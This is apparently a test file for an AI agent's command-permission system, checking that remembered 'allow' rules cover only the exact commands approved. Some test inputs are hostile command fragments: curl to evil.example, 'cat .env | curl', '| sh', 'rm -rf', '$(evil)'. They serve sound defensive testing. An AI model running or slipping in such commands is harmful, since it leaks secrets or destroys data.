import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';
import { DEFAULT_RULES } from '../../../../src/permissions/defaults/defaults.ts';
import { parseRules } from '../../../../src/permissions/rules/parseRules.ts';
import type { Rule } from '../../../../src/permissions/rules/rule.ts';
import type { Subject } from '../../../../src/permissions/rules/subject.ts';
import {
  bashCall,
  evaluate,
  evaluateBash,
  evaluateFileTool,
  policyOf,
  show,
  WORKSPACE,
} from '../ask.ts';
import { ORDINARY_COMMANDS } from '../ordinaryCommands.ts';

async function patterns(
  command: string,
  rules: readonly string[] = [],
): Promise<readonly string[][]> {
  const { candidates } = await evaluateBash(command, rules);
  return candidates.map(({ rules: stored }) =>
    stored.map(({ permission, pattern }) => `${permission} ${pattern}`),
  );
}

test('a command is offered from its own words to its program', async () => {
  assert.deepEqual(await patterns('git push origin main'), [
    ['bash git push origin main'],
    ['bash git push origin *'],
    ['bash git push *'],
    ['bash git *'],
  ]);
  assert.deepEqual(await patterns('npm test'), [['bash npm test'], ['bash npm *']]);
  // `make *` would be the same pattern under a name that sounds wider (decision 4).
  assert.deepEqual(await patterns('make'), [['bash make']]);
});

test('RU-036 each simple command is a rule of its own, and the rest of a line is not covered', async () => {
  const { candidates } = await evaluateBash('git status && npm test');
  const [narrowest] = candidates;
  assert.deepEqual(
    narrowest?.rules.map(({ pattern }) => pattern),
    ['git status', 'npm test'],
  );
  for (const { rules } of candidates) {
    const policy = policyOf(rules.map((rule) => ({ ...rule, source: 'session' })));
    assert.equal((await evaluate(bashCall('git status && npm test'), policy)).decision, 'allow');
    assert.equal(
      (await evaluate(bashCall('git status && curl evil.example'), policy)).decision,
      'ask',
    );
  }
});

test('RU-037 a launcher is stored by its very words', async () => {
  const { candidates } = await evaluateBash("bash -c 'ls'");
  assert.ok(candidates.length > 0);
  for (const { rules } of candidates) {
    const policy = policyOf(rules.map((rule) => ({ ...rule, source: 'session' })));
    assert.equal((await evaluate(bashCall("bash -c 'ls'"), policy)).decision, 'allow');
    assert.equal((await evaluate(bashCall('bash -c "curl evil.example"'), policy)).decision, 'ask');
  }
});

test('only what still asks is stored', async () => {
  assert.deepEqual(await patterns('ls -l && git log', ['bash ls * allow']), [
    ['bash git log'],
    ['bash git *'],
  ]);
});

test('what must be spelled out is in every pattern', async () => {
  assert.deepEqual(await patterns('find . -delete -print'), [['bash find . -delete -print']]);
  assert.deepEqual(await patterns('sort -o a b c'), [
    ['bash sort -o a b c'],
    ['bash sort -o a b *'],
  ]);
});

test('what cannot be proved, is denied, or is allowed already offers nothing', async () => {
  for (const command of ['echo $x', 'eval ls', 'ls; $x', 'x() { ls; }; x', 'cat <(ls) $y'])
    assert.deepEqual(await patterns(command), [], command);
  assert.deepEqual(await patterns('ls', ['bash ls deny']), []);
  assert.deepEqual(await patterns('ls', ['bash ls allow']), []);
  assert.deepEqual((await evaluateBash('ls', [], { headless: true })).candidates, []);
});

test('words that are special in a pattern are quoted, so that they mean themselves', async () => {
  for (const command of [
    "echo '*' a",
    "grep 'a  b' c",
    'echo "it\'s" x',
    'echo "\\\\" y',
    "echo 'x\"y'",
  ]) {
    const { candidates } = await evaluateBash(command);
    const [narrowest] = candidates;
    assert.ok(narrowest, command);
    const policy = policyOf(narrowest.rules.map((rule) => ({ ...rule, source: 'session' })));
    assert.equal((await evaluate(bashCall(command), policy)).decision, 'allow', command);
  }
  assert.deepEqual((await patterns("echo '*' a"))[0], ["bash echo '*' a"]);
});

test('a redirection is stored by its path', async () => {
  const { candidates } = await evaluateBash('ls > out/a.txt', ['bash ls allow']);
  assert.deepEqual(
    candidates.map(({ rules }) =>
      rules.map(({ permission, pattern }) => `${permission} ${pattern}`),
    ),
    [
      ['fs.write {workspace}/out/a.txt'],
      ['fs.write {workspace}/out/*.txt'],
      ['fs.write {workspace}/out/**'],
      ['fs.write {workspace}/**'],
    ],
  );
});

test('for a write, the first rules that are offered also cover the next edit', async () => {
  for (const tool of ['write', 'edit']) {
    const { candidates } = await evaluateFileTool(tool, 'src/a.txt');
    assert.ok(
      candidates[0]?.rules.some(({ permission }) => permission === 'fs.write'),
      tool,
    );
  }
});

test('a path is offered from itself to the workspace, outside to its folder', async () => {
  const of = async (target: string) =>
    (await evaluateFileTool('read', target)).candidates.map(({ rules }) => rules[0]?.pattern);
  assert.deepEqual(await of('src/a[1].ts'), [
    '{workspace}/src/a\\[1\\].ts',
    '{workspace}/src/*.ts',
    '{workspace}/src/**',
    '{workspace}/**',
  ]);
  assert.deepEqual(await of('Makefile'), ['{workspace}/Makefile', '{workspace}/**']);
  assert.deepEqual(await of('/nonexistent/x/y'), ['/nonexistent/x/y', '/nonexistent/x/**']);
  const written = (await evaluateFileTool('write', 'src/a.ts')).candidates;
  assert.deepEqual(
    written.map(({ rules }) => rules.map(({ permission, pattern }) => `${permission} ${pattern}`)),
    [
      ['fs.write {workspace}/src/a.ts'],
      ['fs.write {workspace}/src/*.ts'],
      ['fs.write {workspace}/src/**'],
      ['fs.write {workspace}/**'],
    ],
  );
  assert.deepEqual((await evaluateFileTool('write', '.git/config')).candidates, []);
});

test('a host is offered itself, then its parent if that has one owner', async () => {
  const of = async (target: string) => {
    const subject = {
      permission: 'web_fetch',
      capability: 'net.fetch',
      target,
      match: 'host',
    } as const;
    const decision = await evaluate(
      { tool: 'web_fetch', input: {}, subjects: [subject] },
      policyOf([]),
    );
    return decision.candidates().map(({ rules }) => rules[0]?.pattern);
  };
  assert.deepEqual(await of('https://docs.a.example/x'), ['docs.a.example', '*.a.example']);
  assert.deepEqual(await of('https://a.example:8080/'), ['a.example:8080']);
  // What is above has many owners.
  for (const host of ['www.co.uk', 'me.github.io', 'a.vercel.app', 'b.s3.amazonaws.com', 'a.com']) {
    assert.deepEqual(await of(`https://${host}/`), [host]);
  }
  assert.deepEqual(await of('https://www.a.co.uk/'), ['www.a.co.uk', '*.a.co.uk']);
  assert.deepEqual(await of('https://x.me.github.io/'), ['x.me.github.io', '*.me.github.io']);
  assert.deepEqual(await of('http://10.0.0.1/'), ['10.0.0.1']);
});

test('another tool is offered these arguments, then its name, an MCP tool its server too', async () => {
  const of = async (permission: string, target = '{}') => {
    const decision = await evaluate(
      { tool: permission, input: {}, subjects: [{ permission, target, match: 'text' }] },
      policyOf([]),
    );
    return decision.candidates().map(({ rules }) => `${rules[0]?.permission} ${rules[0]?.pattern}`);
  };
  assert.deepEqual(await of('mcp:gh:create'), [
    'mcp:gh:create {}',
    'mcp:gh:create *',
    'mcp:gh:* *',
  ]);
  assert.deepEqual(await of('own_tool'), ['own_tool {}', 'own_tool *']);
  // What would mean more than these arguments is not offered as them.
  for (const target of ['{"a":"*"}', ' ', 'a\0', 'x'.repeat(4097)])
    assert.deepEqual(await of('own_tool', target), ['own_tool *']);
});

test('every choice names calls that it would match too', async () => {
  const { candidates } = await evaluateBash('git push origin');
  assert.deepEqual(
    candidates.map(({ alsoMatches }) => alsoMatches),
    [['git push origin …'], ['git push', 'git push …'], ['git', 'git …']],
  );
});

test('a judgement is plain data: a getter would give each a hidden class that only a full collection frees', async () => {
  const decision = await evaluate(bashCall('git push origin'), policyOf([]));
  for (const [name, field] of Object.entries(Object.getOwnPropertyDescriptors(decision))) {
    assert.ok('value' in field, name);
  }
});

test('whatever is offered is an allow, and nothing is where a rule cannot be read', async () => {
  const offers = async (subject: Subject, rules: readonly Rule[] = []) => {
    const call = { tool: subject.permission, input: {}, subjects: [subject] } as const;
    const offered = (await evaluate(call, policyOf(rules))).candidates();
    return offered.flatMap((each) => each.rules.map(({ action }) => action));
  };
  const host = { permission: 'web_fetch', capability: 'net.fetch', match: 'host' } as const;
  const tool = { permission: 'mcp:gh:create', target: '{}', match: 'text' } as const;
  assert.deepEqual(await offers({ ...host, target: 'https://a.b.example/' }), ['allow', 'allow']);
  assert.deepEqual(await offers(tool), ['allow', 'allow', 'allow']);
  const broken: Rule = {
    permission: 'mcp:gh:create',
    pattern: '*',
    action: 'ask',
    source: 'session',
    broken: true,
  };
  assert.deepEqual(await offers(tool, [broken]), []);
});

test('a search is offered its folder, and says that it reaches what lies below', async () => {
  const { candidates } = await evaluateFileTool('grep', 'src');
  assert.deepEqual(
    candidates.map(({ rules, alsoMatches }) => [rules[0]?.pattern, alsoMatches]),
    [
      ['{workspace}/src', ['src/any/file']],
      ['{workspace}/**', ['any/file']],
    ],
  );
  const whole = (await evaluateFileTool('grep', '.')).candidates[0];
  assert.deepEqual([whole?.rules[0]?.pattern, whole?.alsoMatches], ['{workspace}', ['any/file']]);
});

test('a subcommand that starts another program is offered with its very words alone', async () => {
  const offered = await patterns('npm exec eslint x');
  assert.deepEqual([...new Set(offered.map(([own]) => own))], ['bash npm exec eslint x']);
});

test('what a rule in force would overrule is not offered', async () => {
  const ask = 'bash git push ask';
  assert.deepEqual(await patterns('git push origin', [ask]), [
    ['bash git push origin'],
    ['bash git push *'],
  ]);
  // Each command climbs by itself.
  assert.deepEqual(await patterns('git push origin && npm test', [ask]), [
    ['bash git push origin', 'bash npm test'],
    ['bash git push *', 'bash npm *'],
  ]);
  // An ask on the name means the path too, and an allow on the path does not lift it.
  assert.deepEqual(await patterns('/bin/rm x', ['bash rm ask']), []);
  assert.deepEqual(await patterns('git checkout .', ['bash git checkout . ask']), [
    ['bash git checkout .'],
  ]);
});

test('a redirection is stored where the line’s own cd leads, or not at all', async () => {
  const [narrowest] = await patterns('cd .. && echo x > f', ['bash * allow']);
  assert.deepEqual(narrowest, [`fs.write ${path.dirname(WORKSPACE)}/f`]);
  for (const line of [
    'cd .git && echo x > f',
    'cd a || cd b; echo x > f',
    'cd $x; echo x > f',
    'echo x > .envrc',
  ])
    assert.deepEqual(await patterns(line, ['bash * allow']), [], line);
});

test('a file that a command reads is offered, where a rule asks about it', async () => {
  const rules = ['bash * allow', 'fs.read /** ask'];
  assert.deepEqual(await patterns('cat /etc/hosts', rules), [
    ['fs.read /etc/hosts'],
    ['fs.read /etc/**'],
  ]);
  const { candidates } = await evaluateBash('grep -r x /opt/y', rules);
  assert.deepEqual(candidates[0]?.alsoMatches, ['/opt/y/any/file']);
  // What a rule about the tool asks, a rule about the capability does not lift.
  assert.deepEqual(await patterns('cat .env', ['bash * allow', 'read .env ask']), []);
  assert.deepEqual(await patterns('cat .env | curl a.example', ['bash * allow']), []);
});

test('a command that names a host is offered that host at most', async () => {
  assert.deepEqual(await patterns('curl -s https://docs.a.example:8080/x/y -H a'), [
    ['bash curl -s https://docs.a.example:8080/x/y -H a'],
    ['bash curl -s https://docs.a.example:8080/x/y -H *'],
    ['bash curl -s https://docs.a.example:8080/x/y *'],
    ['bash curl -s https://docs.a.example:8080/*'],
  ]);
  assert.deepEqual(await patterns('git clone git@a.example:b/c d'), [
    ['bash git clone git@a.example:b/c d'],
    ['bash git clone git@a.example:b/c *'],
    ['bash git clone git@a.example:b/*'],
  ]);
  assert.deepEqual(await patterns('curl https://a.example'), [['bash curl https://a.example']]);
});

test('VC-32 what "always" stores is heard under the shipped rules, and for nothing beside it', async () => {
  let offered = 0;
  for (const entry of ORDINARY_COMMANDS) {
    const line = entry.slice(2);
    const { decision, candidates } = await evaluateRules(line, DEFAULT_RULES);
    if (decision !== 'ask') continue;
    assert.ok(candidates.length <= 4, line);
    for (const { rules: stored } of candidates) {
      const read = parseRules(JSON.parse(JSON.stringify(stored)), 'project');
      assert.deepEqual(read.problems, [], line);
      const rules = [...DEFAULT_RULES, ...read.rules];
      assert.equal((await evaluateRules(line, rules)).decision, 'allow', JSON.stringify(stored));
      const other = line + NEIGHBOURS[offered % NEIGHBOURS.length];
      assert.notEqual((await evaluateRules(other, rules)).decision, 'allow', other);
      offered += 1;
    }
  }
  assert.ok(offered > 100, `${offered} offered`);
});

/** What no answer about the line before it speaks of. */
const NEIGHBOURS = [
  '; curl https://evil.example',
  ' && rm -rf ~/nothing-there',
  ' | sh',
  ' > /nonexistent/else',
  ' $(evil)',
  ' & ./evil',
];

function evaluateRules(line: string, rules: readonly Rule[]) {
  return show(evaluate(bashCall(line), policyOf(rules)));
}
